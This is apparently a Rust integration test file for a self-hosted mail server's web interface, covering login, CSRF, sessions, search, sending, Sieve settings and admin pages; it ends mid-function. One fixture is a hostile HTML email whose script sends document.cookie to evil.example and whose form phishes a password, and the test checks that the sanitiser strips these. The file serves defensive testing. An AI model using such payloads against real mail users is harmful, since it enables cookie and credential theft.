//! The web server on `[listen] web`, over HTTP against the real daemon: login and
//! its throttled failure, CSRF refusals, sessions surviving a restart, folder paging
//! and search, a hostile HTML mail defused, attachments up and down, `/send` landing
//! in the queue and in Sent, actions with Junk training, the settings page writing
//! Sieve, and the admin pages.

use std::net::SocketAddr;
use std::path::{Path, PathBuf};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use zolder::config::Config;
use zolder::daemon::{self, Running};
use zolder::spool::flags::Flags;

mod common;
use common::Zolder;

/// An HTTP answer.
#[derive(Debug)]
struct Resp {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Resp {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
    fn headers_named(&self, name: &str) -> Vec<&str> {
        self.headers
            .iter()
            .filter(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
            .collect()
    }
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    /// The value of the hidden `csrf` input of the page.
    fn csrf(&self) -> String {
        let t = self.text();
        let i = t
            .find("name=\"csrf\" value=\"")
            .expect("page has a csrf field")
            + 19;
        t[i..i + t[i..].find('"').unwrap()].to_string()
    }
    /// `name=value` of a Set-Cookie named `name`.
    fn cookie(&self, name: &str) -> Option<String> {
        self.headers_named("set-cookie")
            .into_iter()
            .find(|c| c.starts_with(&format!("{name}=")))
            .map(|c| c.split(';').next().unwrap().to_string())
    }
}

fn dechunk(mut b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    loop {
        let Some(nl) = b.windows(2).position(|w| w == b"\r\n") else {
            return out;
        };
        let n = usize::from_str_radix(std::str::from_utf8(&b[..nl]).unwrap().trim(), 16).unwrap();
        if n == 0 {
            return out;
        }
        out.extend_from_slice(&b[nl + 2..nl + 2 + n]);
        b = &b[nl + 2 + n + 2..];
    }
}

async fn request(
    addr: SocketAddr,
    method: &str,
    path: &str,
    cookie: &str,
    content_type: Option<&str>,
    body: &[u8],
) -> Resp {
    let mut s = TcpStream::connect(addr).await.unwrap();
    let mut req = format!("{method} {path} HTTP/1.1\r\nHost: zolder.test\r\nConnection: close\r\n");
    if !cookie.is_empty() {
        req.push_str(&format!("Cookie: {cookie}\r\n"));
    }
    if let Some(ct) = content_type {
        req.push_str(&format!("Content-Type: {ct}\r\n"));
    }
    if method == "POST" {
        req.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).await.unwrap();
    // A refused oversized body may close the connection before all of it is written.
    let _ = s.write_all(body).await;
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw).await;
    let end = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("header end")
        + 4;
    let head = String::from_utf8_lossy(&raw[..end]).into_owned();
    let mut lines = head.split("\r\n");
    let status = lines
        .next()
        .unwrap()
        .split(' ')
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
        .collect();
    let chunked = headers
        .iter()
        .any(|(k, v)| k.eq_ignore_ascii_case("transfer-encoding") && v.contains("chunked"));
    let body = if chunked {
        dechunk(&raw[end..])
    } else {
        raw[end..].to_vec()
    };
    Resp {
        status,
        headers,
        body,
    }
}

fn form(pairs: &[(&str, &str)]) -> Vec<u8> {
    form_urlencoded::Serializer::new(String::new())
        .extend_pairs(pairs)
        .finish()
        .into_bytes()
}

const FORM: Option<&str> = Some("application/x-www-form-urlencoded");
const BOUNDARY: &str = "XyZzY0123";

/// A multipart/form-data body: text fields, then files (field, filename, type, bytes).
fn multipart(fields: &[(&str, &str)], files: &[(&str, &str, &str, &[u8])]) -> Vec<u8> {
    let mut b = Vec::new();
    for (k, v) in fields {
        b.extend_from_slice(
            format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n")
                .as_bytes(),
        );
    }
    for (k, name, ct, data) in files {
        b.extend_from_slice(
            format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"; filename=\"{name}\"\r\nContent-Type: {ct}\r\n\r\n"
            )
            .as_bytes(),
        );
        b.extend_from_slice(data);
        b.extend_from_slice(b"\r\n");
    }
    b.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    b
}

struct Web {
    _dir: tempfile::TempDir,
    path: PathBuf,
    running: Running,
    addr: SocketAddr,
}

/// The test daemon: two users (bouke is an admin), a small message size limit, and
/// bogofilter on (so Junk moves queue training) with a program that never runs here.
fn builder(dir: &Path) -> Zolder {
    Zolder::new("zolder.test")
        .top("local_domains = [\"zolder.test\"]")
        .top("postmaster = \"bouke\"")
        .top("admins = [\"bouke\"]")
        .top("limits.message_size = 200000")
        .top("scan.bogofilter = true")
        .top("scan.bogofilter_path = \"/bin/false\"")
        .listen("web")
        .user("bouke", "geheim", &["bouke@zolder.test"])
        .user("anna", "geheim", &["anna@zolder.test"])
        .in_dir(dir)
}

async fn start() -> Web {
    let dir = tempfile::tempdir().unwrap();
    let srv = builder(dir.path()).start().await;
    let addr = srv.addr("web");
    let path = srv.config.clone();
    let common::Server { running, .. } = srv;
    Web {
        _dir: dir,
        path,
        running,
        addr,
    }
}

impl Web {
    async fn get(&self, path: &str, cookie: &str) -> Resp {
        request(self.addr, "GET", path, cookie, None, b"").await
    }
    async fn post(&self, path: &str, cookie: &str, pairs: &[(&str, &str)]) -> Resp {
        request(self.addr, "POST", path, cookie, FORM, &form(pairs)).await
    }

    /// Logs in as `user`; returns the session cookie and a page's csrf value.
    async fn login(&self, user: &str) -> (String, String) {
        let page = self.get("/", "").await;
        let pre = page.cookie("zolder_login").unwrap();
        let r = self
            .post(
                "/login",
                &pre,
                &[
                    ("user", user),
                    ("password", "geheim"),
                    ("csrf", &page.csrf()),
                ],
            )
            .await;
        assert_eq!(r.status, 303, "{}", r.text());
        let c = r.cookie("zolder_session").unwrap();
        let inbox = self.get("/mail/INBOX", &c).await;
        assert_eq!(inbox.status, 200);
        (c, inbox.csrf())
    }

    fn append(&self, user: &str, mailbox: &str, msg: &[u8]) -> u32 {
        self.running
            .ctx
            .spool
            .append(user, mailbox, msg.to_vec(), &Flags::new(), None)
            .unwrap()
            .uid
    }

    fn flags(&self, user: &str, mailbox: &str, uid: u32) -> String {
        self.running
            .ctx
            .spool
            .message_meta(user, mailbox, uid)
            .unwrap()
            .flags
            .to_db()
    }

    fn count(&self, user: &str, mailbox: &str) -> usize {
        self.running
            .ctx
            .spool
            .select(user, mailbox)
            .unwrap()
            .messages
            .len()
    }

    fn db(&self) -> zolder::db::Connection {
        zolder::db::open(&self.running.ctx.config.db_path()).unwrap()
    }
}

#[tokio::test]
async fn login_csrf_logout_and_sessions_surviving_a_restart() {
    let w = start().await;
    // The login form, with the contract's field names.
    let page = w.get("/", "").await;
    assert_eq!(page.status, 200);
    let t = page.text();
    for f in [
        "name=\"user\"",
        "name=\"password\"",
        "type=\"hidden\" name=\"csrf\"",
    ] {
        assert!(t.contains(f), "{f} missing: {t}");
    }
    let pre = page.cookie("zolder_login").unwrap();
    let csrf = page.csrf();

    // Without the form's csrf value (or its cookie): 403.
    let r = w
        .post(
            "/login",
            &pre,
            &[("user", "bouke"), ("password", "geheim"), ("csrf", "x")],
        )
        .await;
    assert_eq!(r.status, 403);
    let r = w
        .post(
            "/login",
            "",
            &[("user", "bouke"), ("password", "geheim"), ("csrf", &csrf)],
        )
        .await;
    assert_eq!(r.status, 403);

    // A wrong password: the form again with a message, after the failure delay.
    let t0 = std::time::Instant::now();
    let r = w
        .post(
            "/login",
            &pre,
            &[("user", "bouke"), ("password", "fout"), ("csrf", &csrf)],
        )
        .await;
    assert_eq!(r.status, 401);
    assert!(r.text().contains("Login failed"), "{}", r.text());
    assert!(r.text().contains("name=\"password\""));
    assert!(t0.elapsed() >= std::time::Duration::from_millis(900));
    assert!(r.cookie("zolder_session").is_none());

    // The right one: a session cookie and 303 to the INBOX.
    let r = w
        .post(
            "/login",
            &pre,
            &[("user", "bouke"), ("password", "geheim"), ("csrf", &csrf)],
        )
        .await;
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/mail/INBOX"));
    let set = r
        .headers_named("set-cookie")
        .into_iter()
        .find(|c| c.starts_with("zolder_session="))
        .unwrap()
        .to_string();
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Strict"),
        "{set}"
    );
    assert!(!set.contains("Secure"), "no Secure over plain HTTP: {set}");
    let cookie = r.cookie("zolder_session").unwrap();
    assert_eq!(
        w.get("/", &cookie).await.header("location"),
        Some("/mail/INBOX")
    );
    let inbox = w.get("/mail/INBOX", &cookie).await;
    assert_eq!(inbox.status, 200);
    assert!(inbox.text().contains("Log out"));
    // No session: back to the login form.
    let r = w.get("/mail/INBOX", "").await;
    assert_eq!((r.status, r.header("location")), (303, Some("/")));
    let r = w.get("/mail/INBOX", "zolder_session=forged").await;
    assert_eq!(r.status, 303);

    // The session survives a restart of the daemon.
    let Web {
        _dir,
        path,
        running,
        ..
    } = w;
    running.shutdown().await;
    let running = daemon::start(Config::load(&path).unwrap(), path.clone())
        .await
        .unwrap();
    let w = Web {
        addr: running.addr("web"),
        _dir,
        path,
        running,
    };
    let inbox = w.get("/mail/INBOX", &cookie).await;
    assert_eq!(inbox.status, 200, "session lost over a restart");
    let csrf = inbox.csrf();

    // Logout needs the csrf value, then the cookie is dead.
    assert_eq!(
        w.post("/logout", &cookie, &[("csrf", "nope")]).await.status,
        403
    );
    let r = w.post("/logout", &cookie, &[("csrf", &csrf)]).await;
    assert_eq!((r.status, r.header("location")), (303, Some("/")));
    assert_eq!(w.get("/mail/INBOX", &cookie).await.status, 303);
    w.running.shutdown().await;
}

#[tokio::test]
async fn folder_pages_newest_first_and_search() {
    let w = start().await;
    for i in 1..=60 {
        let body = if i == 17 {
            "the word zeppelin"
        } else {
            "nothing"
        };
        w.append(
            "bouke",
            "INBOX",
            format!("From: Sender {i} <s{i}@example.org>\r\nSubject: Message number {i:02}\r\n\r\n{body}\r\n")
                .as_bytes(),
        );
    }
    let (c, _) = w.login("bouke").await;
    let p1 = w.get("/mail/INBOX", &c).await.text();
    assert!(
        p1.contains("Message number 60") && p1.contains("Message number 11"),
        "{p1}"
    );
    assert!(!p1.contains("Message number 10<"), "page 1 holds 50: {p1}");
    assert!(
        p1.find("number 60").unwrap() < p1.find("number 59").unwrap(),
        "newest first"
    );
    assert!(p1.contains("Sender 60 &lt;s60@example.org&gt;"));
    assert!(p1.contains("href=\"/mail/INBOX/60\""));
    assert!(p1.contains("Page 1 of 2"));
    let p2 = w.get("/mail/INBOX?page=2", &c).await.text();
    assert!(p2.contains("Message number 10") && p2.contains("Message number 01"));
    assert!(!p2.contains("Message number 11"));
    // The search box: body text through the IMAP SEARCH engine.
    let s = w.get("/mail/INBOX?q=zeppelin", &c).await.text();
    assert!(
        s.contains("Message number 17") && s.contains("1 found"),
        "{s}"
    );
    assert!(!s.contains("Message number 16"));
    let s = w.get("/mail/INBOX?q=s42%40example.org", &c).await.text();
    assert!(
        s.contains("Message number 42") && s.contains("1 found"),
        "{s}"
    );
    // Other folders are listed; a missing one is 404; another user's mail is not reachable.
    assert!(p1.contains("href=\"/mail/Junk\"") && p1.contains("href=\"/mail/Sent\""));
    assert_eq!(w.get("/mail/Nope", &c).await.status, 404);
    let (ca, _) = w.login("anna").await;
    let a = w.get("/mail/INBOX", &ca).await.text();
    assert!(
        !a.contains("Message number"),
        "anna sees only her own INBOX"
    );
    assert_eq!(w.get("/mail/INBOX/17", &ca).await.status, 404);
    w.running.shutdown().await;
}

const HOSTILE: &str = "From: Mallory <m@evil.example>\r\nTo: bouke@zolder.test\r\nSubject: Win a prize\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><style>body{background:url(http://evil.example/bg.png)}</style>\
<script>document.location='http://evil.example/?c='+document.cookie</script></head>\
<body onload=\"steal()\"><p style=\"background:url('http://evil.example/t.gif')\">Dear <b>winner</b></p>\
<img src=\"http://evil.example/pixel.gif\" onerror=\"alert(1)\">\
<form action=\"http://evil.example/phish\" method=\"post\"><input name=\"password\"><button>Claim</button></form>\
<a href=\"javascript:alert(2)\">click</a></body></html>\r\n\
--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"prize.bin\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\nAAECAwQ=\r\n--b1--\r\n";

#[tokio::test]
async fn hostile_html_is_sanitised_and_remote_images_wait_for_a_click() {
    let w = start().await;
    let uid = w.append("bouke", "INBOX", HOSTILE.as_bytes());
    assert!(!w.flags("bouke", "INBOX", uid).contains("\\Seen"));
    let (c, _) = w.login("bouke").await;
    let r = w.get(&format!("/mail/INBOX/{uid}"), &c).await;
    assert_eq!(r.status, 200);
    let t = r.text();
    let body = &t[t.find("class=\"body\"").unwrap()..];
    for bad in [
        "<script",
        "document.cookie",
        "onload",
        "onerror",
        "url(",
        "<form",
        "<input",
        "javascript:",
        "evil.example/pixel",
        "steal()",
    ] {
        assert!(!body.contains(bad), "{bad} survived: {body}");
    }
    assert!(body.contains("Dear <b>winner</b>"), "{body}");
    assert!(t.contains("1 remote image(s) not loaded"), "{t}");
    let csp = r.header("content-security-policy").unwrap();
    assert!(
        csp.contains("default-src 'none'") && !csp.contains("script-src"),
        "{csp}"
    );
    assert!(!csp.contains("http:"));
    // Opening it marked it \Seen.
    assert!(w.flags("bouke", "INBOX", uid).contains("\\Seen"));

    // After the click: the image (still no scripts or handlers).
    let r = w.get(&format!("/mail/INBOX/{uid}?images=1"), &c).await;
    let t = r.text();
    assert!(t.contains("src=\"http://evil.example/pixel.gif\""), "{t}");
    assert!(!t.contains("onerror") && !t.contains("<script"));
    assert!(
        r.header("content-security-policy")
            .unwrap()
            .contains("img-src 'self' http: https:")
    );

    // The attachment is listed and downloads as an attachment.
    let href = format!("/mail/INBOX/{uid}/part/");
    let i = t.find(&href).expect("attachment link") + href.len();
    let part: String = t[i..].chars().take_while(|c| c.is_ascii_digit()).collect();
    assert!(t.contains("prize.bin"));
    let d = w.get(&format!("{href}{part}"), &c).await;
    assert_eq!(d.status, 200);
    assert!(
        d.header("content-disposition")
            .unwrap()
            .starts_with("attachment;")
    );
    assert_eq!(d.header("content-type"), Some("application/octet-stream"));
    assert_eq!(d.body, [0u8, 1, 2, 3, 4]);
    // Part 0 (the message itself) is not an attachment.
    assert_eq!(w.get(&format!("{href}0"), &c).await.status, 404);
    w.running.shutdown().await;
}

#[tokio::test]
async fn send_queues_as_submission_does_and_files_a_copy_in_sent() {
    let w = start().await;
    let orig = w.append(
        "bouke",
        "INBOX",
        b"From: Anna Berg <anna.berg@example.org>\r\nSubject: Etentje\r\nMessage-ID: <e1@example.org>\r\n\r\nZaterdag om zes?\r\n",
    );
    let (c, _) = w.login("bouke").await;
    // The reply form is filled in.
    let f = w.get(&format!("/compose?reply=INBOX/{orig}"), &c).await;
    let t = f.text();
    assert!(t.contains("value=\"anna.berg@example.org\""), "{t}");
    assert!(t.contains("value=\"Re: Etentje\""));
    assert!(t.contains("&gt; Zaterdag om zes?"));
    assert!(t.contains("enctype=\"multipart/form-data\""));
    for n in ["to", "cc", "subject", "body", "attachment", "csrf"] {
        assert!(t.contains(&format!("name=\"{n}\"")), "{n}");
    }
    let csrf = f.csrf();
    let pdf: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
    let body = multipart(
        &[
            ("csrf", &csrf),
            ("to", "Anna Berg <anna.berg@example.org>"),
            ("cc", "anna@zolder.test"),
            ("subject", "Re: Etentje"),
            ("body", "Goed plan.\r\n"),
            ("in_reply_to", "<e1@example.org>"),
            ("references", "<e1@example.org>"),
            ("forward", ""),
        ],
        &[("attachment", "plan.pdf", "application/pdf", &pdf)],
    );
    let ct = format!("multipart/form-data; boundary={BOUNDARY}");
    // Without the csrf value: 403 and nothing queued.
    let bad = multipart(&[("csrf", "x"), ("to", "a@example.org")], &[]);
    let r = request(w.addr, "POST", "/send", &c, Some(&ct), &bad).await;
    assert_eq!(r.status, 403);
    // Relay control as over SMTP: routing tricks are refused.
    let trick = multipart(&[("csrf", &csrf), ("to", "a%b@example.org")], &[]);
    let r = request(w.addr, "POST", "/send", &c, Some(&ct), &trick).await;
    assert_eq!(r.status, 400);
    assert!(r.text().contains("not allowed"), "{}", r.text());

    let r = request(w.addr, "POST", "/send", &c, Some(&ct), &body).await;
    assert_eq!(r.status, 303, "{}", r.text());
    assert_eq!(r.header("location"), Some("/mail/Sent"));

    // In the queue: sender = the user's address, both recipients, authenticated.
    let db = w.db();
    let q = zolder::db::queue::list(&db).unwrap();
    assert_eq!(q.len(), 1);
    let (m, rcpts) = &q[0];
    assert_eq!(m.sender.as_deref(), Some("bouke@zolder.test"));
    assert_eq!(m.auth_user.as_deref(), Some("bouke"));
    let mut rs: Vec<&str> = rcpts.iter().map(|r| r.rcpt.as_str()).collect();
    rs.sort();
    assert_eq!(rs, ["anna.berg@example.org", "anna@zolder.test"]);
    let file = w
        .running
        .ctx
        .config
        .data_dir
        .join("queue")
        .join("msg")
        .join(&m.id);
    let queued = std::fs::read(&file).unwrap_or_default();
    let qt = String::from_utf8_lossy(&queued);
    assert!(qt.starts_with("Received: from [127.0.0.1]"), "{qt}");
    assert!(
        qt.contains("From: <bouke@zolder.test>") || qt.contains("From: bouke@zolder.test"),
        "{qt}"
    );
    assert!(qt.contains("In-Reply-To: <e1@example.org>"), "{qt}");
    assert!(qt.contains("plan.pdf"));

    // The copy in Sent, with the attachment that downloads byte for byte.
    assert_eq!(w.count("bouke", "Sent"), 1);
    let sent = w.get("/mail/Sent", &c).await.text();
    assert!(sent.contains("Re: Etentje"));
    let page = w.get("/mail/Sent/1", &c).await.text();
    let i = page.find("/mail/Sent/1/part/").unwrap() + 18;
    let part: String = page[i..]
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect();
    let d = w.get(&format!("/mail/Sent/1/part/{part}"), &c).await;
    assert!(
        d.header("content-disposition")
            .unwrap()
            .contains("plan.pdf")
    );
    assert_eq!(d.body, pdf);

    // Forward: the original goes along as message/rfc822.
    let f = w.get(&format!("/compose?forward=INBOX/{orig}"), &c).await;
    assert!(f.text().contains("value=\"Fwd: Etentje\""));
    let fwd = multipart(
        &[
            ("csrf", &csrf),
            ("to", "x@example.net"),
            ("subject", "Fwd: Etentje"),
            ("forward", &format!("INBOX/{orig}")),
        ],
        &[],
    );
    assert_eq!(
        request(w.addr, "POST", "/send", &c, Some(&ct), &fwd)
            .await
            .status,
        303
    );
    assert_eq!(zolder::db::queue::list(&db).unwrap().len(), 2);
    let page = w.get("/mail/Sent/2", &c).await.text();
    assert!(
        page.contains("forwarded.eml") && page.contains("message/rfc822"),
        "{page}"
    );
    let i = page.find("/mail/Sent/2/part/").unwrap() + 18;
    let part: String = page[i..]
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect();
    let d = w.get(&format!("/mail/Sent/2/part/{part}"), &c).await;
    assert!(d.text().contains("Zaterdag om zes?"), "{}", d.text());

    // Too large for limits.message_size: 413, nothing queued.
    let big = vec![b'x'; 600_000];
    let body = multipart(
        &[("csrf", &csrf), ("to", "a@example.org")],
        &[("attachment", "big.bin", "application/octet-stream", &big)],
    );
    let r = request(w.addr, "POST", "/send", &c, Some(&ct), &body).await;
    assert_eq!(r.status, 413);
    assert_eq!(zolder::db::queue::list(&db).unwrap().len(), 2);
    w.running.shutdown().await;
}

#[tokio::test]
async fn actions_move_flag_delete_and_junk_trains() {
    let w = start().await;
    let a = w.append("bouke", "INBOX", b"Subject: one\r\n\r\nx\r\n");
    let b = w.append("bouke", "INBOX", b"Subject: two\r\n\r\ny\r\n");
    let (c, csrf) = w.login("bouke").await;
    let act = |op: &'static str, mb: &'static str, uid: u32, to: &'static str, csrf: String| {
        let c = c.clone();
        let w = &w;
        async move {
            let uid = uid.to_string();
            w.post(
                "/action",
                &c,
                &[
                    ("csrf", &csrf),
                    ("mailbox", mb),
                    ("uid", &uid),
                    ("op", op),
                    ("to", to),
                ],
            )
            .await
        }
    };
    // Without the csrf value: 403, nothing moved.
    let r = act("junk", "INBOX", a, "", "bad".into()).await;
    assert_eq!(r.status, 403);
    assert_eq!(w.count("bouke", "INBOX"), 2);

    // Flag, mark unread.
    assert_eq!(act("flag", "INBOX", a, "", csrf.clone()).await.status, 303);
    assert!(w.flags("bouke", "INBOX", a).contains("\\Flagged"));
    assert_eq!(act("read", "INBOX", a, "", csrf.clone()).await.status, 303);
    assert!(w.flags("bouke", "INBOX", a).contains("\\Seen"));
    assert_eq!(
        act("unread", "INBOX", a, "", csrf.clone()).await.status,
        303
    );
    assert!(!w.flags("bouke", "INBOX", a).contains("\\Seen"));

    // Junk: moved, and spam training queued as an IMAP move into Junk does.
    let r = act("junk", "INBOX", a, "", csrf.clone()).await;
    assert_eq!((r.status, r.header("location")), (303, Some("/mail/INBOX")));
    assert_eq!(
        (w.count("bouke", "INBOX"), w.count("bouke", "Junk")),
        (1, 1)
    );
    let kinds = |db: &zolder::db::Connection| -> Vec<(String, String)> {
        let mut st = db
            .prepare("SELECT mailbox, kind FROM scan_training ORDER BY id")
            .unwrap();
        st.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    assert_eq!(kinds(&w.db()), [("Junk".to_string(), "spam".to_string())]);
    // Not junk: back to INBOX, ham training.
    let junk_uid = w
        .running
        .ctx
        .spool
        .select("bouke", "Junk")
        .unwrap()
        .messages[0]
        .uid;
    assert_eq!(
        act("notjunk", "Junk", junk_uid, "", csrf.clone())
            .await
            .status,
        303
    );
    assert_eq!(
        (w.count("bouke", "INBOX"), w.count("bouke", "Junk")),
        (2, 0)
    );
    assert_eq!(kinds(&w.db())[1], ("INBOX".to_string(), "ham".to_string()));

    // Move to another folder; delete goes to Trash, and from Trash for good.
    assert_eq!(
        act("move", "INBOX", b, "Drafts", csrf.clone()).await.status,
        303
    );
    assert_eq!(w.count("bouke", "Drafts"), 1);
    let d = w
        .running
        .ctx
        .spool
        .select("bouke", "Drafts")
        .unwrap()
        .messages[0]
        .uid;
    assert_eq!(
        act("delete", "Drafts", d, "", csrf.clone()).await.status,
        303
    );
    assert_eq!(
        (w.count("bouke", "Drafts"), w.count("bouke", "Trash")),
        (0, 1)
    );
    let t = w
        .running
        .ctx
        .spool
        .select("bouke", "Trash")
        .unwrap()
        .messages[0]
        .uid;
    assert_eq!(
        act("delete", "Trash", t, "", csrf.clone()).await.status,
        303
    );
    assert_eq!(w.count("bouke", "Trash"), 0);
    assert_eq!(act("bogus", "INBOX", a, "", csrf.clone()).await.status, 400);
    // The raw source.
    let inbox = w.running.ctx.spool.select("bouke", "INBOX").unwrap();
    let r = w
        .get(&format!("/mail/INBOX/{}/raw", inbox.messages[0].uid), &c)
        .await;
    assert!(r.text().contains("Subject:"));
    assert_eq!(r.header("content-type"), Some("text/plain; charset=utf-8"));
    w.running.shutdown().await;
}

#[tokio::test]
async fn settings_write_the_users_sieve_script() {
    let w = start().await;
    let (c, csrf) = w.login("bouke").await;
    let page = w.get("/settings", &c).await;
    assert_eq!(page.status, 200);
    assert!(page.text().contains("name=\"vacation_text\""));
    // Without the csrf value: 403, no script.
    let r = w
        .post(
            "/settings",
            &c,
            &[("csrf", "x"), ("vacation", "on"), ("vacation_text", "weg")],
        )
        .await;
    assert_eq!(r.status, 403);
    let script = w
        .running
        .ctx
        .config
        .data_dir
        .join("sieve")
        .join("bouke.sieve");
    assert!(!script.exists());
    let r = w
        .post(
            "/settings",
            &c,
            &[
                ("csrf", &csrf),
                ("vacation", "on"),
                ("vacation_subject", "Afwezig"),
                ("vacation_text", "Ik ben er niet tot maandag."),
                ("vacation_from", ""),
                ("vacation_until", "2099-12-31"),
                ("filter_field_0", "from"),
                ("filter_contains_0", "nieuwsbrief@"),
                ("filter_folder_0", "Nieuws"),
            ],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(r.text().contains("Saved."));
    let text = std::fs::read_to_string(&script).unwrap();
    assert!(
        text.contains("vacation :days 7 :subject \"Afwezig\" :addresses [\"bouke@zolder.test\"]"),
        "{text}"
    );
    assert!(
        text.contains("if header :contains \"from\" \"nieuwsbrief@\""),
        "{text}"
    );
    assert!(text.contains("fileinto \"Nieuws\""));
    // Delivery runs it: the newsletter is filed, other mail gets the vacation reply.
    use zolder::message::Deliver;
    let mail = |from: &str| zolder::message::Incoming {
        envelope: zolder::message::Envelope::new(
            Some(from.into()),
            vec!["bouke@zolder.test".into()],
            zolder::message::Source::Local { user: "t".into() },
        ),
        message: zolder::message::RawMessage::new(
            format!("From: {from}\r\nTo: bouke@zolder.test\r\nSubject: Nieuws\r\n\r\nHallo\r\n")
                .into_bytes(),
        ),
    };
    let r = w
        .running
        .ctx
        .local_delivery
        .deliver(mail("nieuwsbrief@club.example"))
        .await;
    assert!(r.all_delivered(), "{r:?}");
    assert_eq!(w.count("bouke", "Nieuws"), 1);
    let r = w
        .running
        .ctx
        .local_delivery
        .deliver(mail("oma@elders.example"))
        .await;
    assert!(r.all_delivered());
    assert_eq!(w.count("bouke", "INBOX"), 1);
    assert!(
        r.generated
            .iter()
            .any(|g| g.recipients == ["oma@elders.example"] && g.reason.contains("vacation")),
        "a vacation reply: {:?}",
        r.generated.iter().map(|g| &g.reason).collect::<Vec<_>>()
    );
    // The page shows what was saved, also after logging in again.
    let again = w.get("/settings", &c).await.text();
    assert!(
        again.contains("Ik ben er niet tot maandag.") && again.contains("value=\"nieuwsbrief@\"")
    );
    assert!(again.contains("checked"));
    // A bad date is refused with a message; the script stays.
    let r = w
        .post(
            "/settings",
            &c,
            &[("csrf", &csrf), ("vacation_until", "31-12-2099")],
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.text().contains("not a date"));
    assert_eq!(std::fs::read_to_string(&script).unwrap(), text);
    // Vacation off, no filters: the script no longer replies.
    let r = w
        .post("/settings", &c, &[("csrf", &csrf), ("vacation_text", "x")])
        .await;
    assert_eq!(r.status, 200);
    assert!(
        !std::fs::read_to_string(&script)
            .unwrap()
            .contains("vacation :days")
    );
    w.running.shutdown().await;
}

#[tokio::test]
async fn admin_pages_charts_and_queue_actions() {
    let w = start().await;
    // Real code paths feed the counters: a local delivery counts as delivered.
    let msg = zolder::message::Incoming {
        envelope: zolder::message::Envelope::new(
            Some("anna@example.org".into()),
            vec!["bouke@zolder.test".into()],
            zolder::message::Source::Local { user: "t".into() },
        ),
        message: zolder::message::RawMessage::new(b"Subject: hi\n\nhello\n".to_vec()),
    };
    use zolder::message::Deliver;
    let r = w.running.ctx.local_delivery.deliver(msg).await;
    assert!(r.all_delivered(), "{r:?}");
    let (c, csrf) = w.login("bouke").await;
    // Something waiting in the queue (no smarthost: it stays).
    let ct = format!("multipart/form-data; boundary={BOUNDARY}");
    let body = multipart(
        &[
            ("csrf", &csrf),
            ("to", "oma@elders.example"),
            ("subject", "Hoi"),
        ],
        &[],
    );
    assert_eq!(
        request(w.addr, "POST", "/send", &c, Some(&ct), &body)
            .await
            .status,
        303
    );
    let db = w.db();
    let id = zolder::db::queue::list(&db).unwrap()[0].0.id.clone();

    let r = w.get("/admin", &c).await;
    assert_eq!(r.status, 200);
    let t = r.text();
    assert!(t.matches("<svg").count() >= 3, "three charts: {t}");
    assert!(t.contains("delivered (1)"), "the delivery was counted: {t}");
    assert!(t.contains("Mailbox sizes") && t.contains("Queue length"));
    assert!(t.contains("oma@elders.example") && t.contains(&id));
    assert!(
        t.contains("value=\"retry\"")
            && t.contains("Scanners")
            && t.contains("bogofilter /bin/false")
    );
    let svg = w.get("/admin/chart/traffic", &c).await;
    assert_eq!(svg.header("content-type"), Some("image/svg+xml"));
    assert!(svg.text().starts_with("<svg"));
    assert_eq!(w.get("/admin/chart/nope", &c).await.status, 404);
    let json = w.get("/status.json", &c).await;
    let v: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    assert_eq!(v["queue"]["messages"], 1);
    assert_eq!(w.get("/health", "").await.text(), "ok\n");

    // Not an admin: 403 everywhere under /admin.
    let (ca, csrf_a) = w.login("anna").await;
    assert_eq!(w.get("/admin", &ca).await.status, 403);
    assert_eq!(w.get("/status.json", &ca).await.status, 403);
    assert_eq!(
        w.post(
            "/admin/queue",
            &ca,
            &[("csrf", &csrf_a), ("op", "delete"), ("id", &id)]
        )
        .await
        .status,
        403
    );
    // Without csrf: 403. Retry now, then delete.
    assert_eq!(
        w.post(
            "/admin/queue",
            &c,
            &[("csrf", "x"), ("op", "delete"), ("id", &id)]
        )
        .await
        .status,
        403
    );
    let r = w
        .post(
            "/admin/queue",
            &c,
            &[("csrf", &csrf), ("op", "retry"), ("id", &id)],
        )
        .await;
    assert_eq!((r.status, r.header("location")), (303, Some("/admin")));
    let r = w
        .post(
            "/admin/queue",
            &c,
            &[("csrf", &csrf), ("op", "delete"), ("id", &id)],
        )
        .await;
    assert_eq!(r.status, 303);
    assert!(zolder::db::queue::list(&db).unwrap().is_empty());
    assert_eq!(w.get("/admin/quarantine/42", &c).await.status, 404);
    w.running.shutdown().await;
}

/// A request over TLS (the LAN certificate is self-signed: not verified here).
async fn tls_get(addr: SocketAddr, req: &[u8]) -> String {
    let tcp = TcpStream::connect(addr).await.unwrap();
    let mut s = async_native_tls::TlsConnector::new()
